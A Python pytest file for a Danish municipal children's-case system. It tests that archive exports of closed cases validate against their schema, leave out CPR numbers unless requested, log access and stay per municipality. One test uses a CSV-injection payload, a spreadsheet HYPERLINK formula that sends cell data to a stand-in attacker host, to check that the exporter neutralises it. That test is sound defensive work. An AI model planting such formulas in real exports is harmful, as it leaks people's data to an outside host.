"""The archive export of closed cases, from the lead's screen and from the command: a zip of
CSV tables and JSON, described by datapackage.json and a JSON Schema the JSON validates
against; CPR numbers only when asked for; every exported child in the access log."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import jsonschema
from django.core.management import call_command
from django.utils import timezone

from spor.archive.models import ArchiveExport, ArchiveHold
from spor.audit.models import AccessLogEntry, Action
from tests.archive.helpers import closed_case
from tests.conftest import ALL_CPR, CPR_A2, World, cpr_forms


def export_data(**changes: object) -> dict[str, object]:
    today = timezone.localdate()
    data: dict[str, object] = {
        "eksport-closed_from": today.replace(month=1, day=1).isoformat()
        if today.month > 1
        else today.replace(year=today.year - 1, month=1, day=1).isoformat(),
        "eksport-closed_to": today.isoformat(),
    }
    data.update({f"eksport-{k}": v for k, v in changes.items()})
    return data


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        return {name: zf.read(name) for name in zf.namelist()}


def all_text(files: dict[str, bytes]) -> str:
    return "\n".join(b.decode("utf-8") for b in files.values())


def test_the_lead_downloads_an_export_that_describes_itself_and_holds_no_cpr(
    world: World,
) -> None:
    case = closed_case(world, world.child_a2, kle_number="17.13.00", title="Ordblindhed")
    before = AccessLogEntry.objects.filter(action=Action.EXPORT).count()
    response = world.client_for(world.lead_a).post("/arkiv/eksport/", export_data())
    assert response.status_code == 200
    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"].startswith('attachment; filename="spor-arkiv-901-')
    files = members(response.content)
    assert {"README.txt", "datapackage.json", "data.json", "data.schema.json"} <= set(files)

    # The JSON document is valid against the shipped schema.
    document = json.loads(files["data.json"])
    schema = json.loads(files["data.schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    jsonschema.validate(document, schema, format_checker=jsonschema.FormatChecker())

    # Every CSV has the columns its datapackage resource says, and the same rows as the JSON.
    package = json.loads(files["datapackage.json"])
    assert package["profile"] == "tabular-data-package"
    for resource in package["resources"]:
        rows = list(csv.reader(io.StringIO(files[resource["path"]].decode("utf-8"))))
        assert rows[0] == [f["name"] for f in resource["schema"]["fields"]]
        assert len(rows) - 1 == len(document["tables"][resource["name"]])

    tables = document["tables"]
    assert [c["id"] for c in tables["cases"]] == [case.pk]  # only the closed one, not Oliver's
    assert tables["cases"][0]["kle_number"] == "17.13.00"
    assert tables["cases"][0]["title"] == "Ordblindhed"
    assert [c["first_name"] for c in tables["children"]] == ["Ida"]
    assert "cpr" not in tables["children"][0]
    assert tables["deliveries"] and tables["delivery_hours"] and tables["sdq_responses"]
    assert tables["events"] and tables["staff"]

    text = all_text(files)
    for value in ALL_CPR:
        for form in cpr_forms(value):
            assert form not in text
    assert world.child_a2.cpr_encrypted not in text and world.child_a2.cpr_hash not in text
    assert "IKKE CPR-numre" in files["README.txt"].decode()

    logged = AccessLogEntry.objects.filter(action=Action.EXPORT)
    assert logged.count() == before + 1 and logged.filter(child=world.child_a2).exists()
    record = ArchiveExport.objects.get(municipality=world.a)
    assert record.case_count == 1 and not record.with_cpr and len(record.sha256) == 64


def test_with_the_flag_the_export_carries_the_cpr_number_for_the_archive(world: World) -> None:
    closed_case(world, world.child_a2)
    response = world.client_for(world.lead_a).post(
        "/arkiv/eksport/", export_data(with_cpr="on", hold_reference="Aflevering 2027")
    )
    files = members(response.content)
    children = list(csv.DictReader(io.StringIO(files["csv/children.csv"].decode("utf-8"))))
    assert children[0]["cpr"] == CPR_A2.replace("-", "")
    assert "INDEHOLDER" in files["README.txt"].decode()
    assert ArchiveExport.objects.get(municipality=world.a).with_cpr
    # The exported case is held for the delivery, so the retention job keeps it.
    assert ArchiveHold.objects.filter(
        municipality=world.a, reference="Aflevering 2027", released_at__isnull=True
    ).exists()
    entry = AccessLogEntry.objects.filter(action=Action.EXPORT).latest("pk")
    assert "med CPR-nummer" in entry.what


def test_a_period_that_ends_before_it_starts_is_refused_in_danish(world: World) -> None:
    response = world.client_for(world.lead_a).post(
        "/arkiv/eksport/",
        export_data(closed_from="2026-12-31", closed_to="2026-01-01"),
    )
    assert response.status_code == 400
    assert "Slutdatoen kan ikke ligge før startdatoen." in response.content.decode()
    assert not ArchiveExport.objects.exists()


def test_bby_exports_only_its_own_cases(world: World) -> None:
    closed_case(world, world.child_a2)
    response = world.client_for(world.lead_b).post("/arkiv/eksport/", export_data())
    document = json.loads(members(response.content)["data.json"])
    assert document["municipality"]["code"] == "902"
    assert all(not rows for rows in document["tables"].values())


def test_the_command_writes_the_export_and_prints_no_cpr(world: World, tmp_path: Path) -> None:
    closed_case(world, world.child_a2)
    target = tmp_path / "arkiv.zip"
    out = io.StringIO()
    today = timezone.localdate()
    call_command(
        "spor_archive_export",
        "--municipality",
        "901",
        "--from",
        "2000-01-01",
        "--to",
        today.isoformat(),
        "--output",
        str(target),
        "--with-cpr",
        stdout=out,
    )
    files = members(target.read_bytes())
    assert CPR_A2.replace("-", "") in files["csv/children.csv"].decode()
    printed = out.getvalue()
    assert "1 forløb om 1 børn" in printed and "med CPR-numre" in printed
    for form in cpr_forms(CPR_A2):
        assert form not in printed


def test_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv(world: World) -> None:
    hostile = '=HYPERLINK("https://angriber.example/?d="&A2,"Klik")'
    closed_case(world, world.child_a2, title=hostile)
    response = world.client_for(world.lead_a).post("/arkiv/eksport/", export_data())
    assert response.status_code == 200
    files = members(response.content)
    rows = list(csv.DictReader(io.StringIO(files["csv/cases.csv"].decode("utf-8"))))
    assert [r["title"] for r in rows] == ["'" + hostile]
    # Nowhere in any CSV does a cell start with a formula; the JSON keeps the text as it is.
    for name, content in files.items():
        if name.endswith(".csv"):
            for row in csv.reader(io.StringIO(content.decode("utf-8"))):
                assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
    assert json.loads(files["data.json"])["tables"]["cases"][0]["title"] == hostile
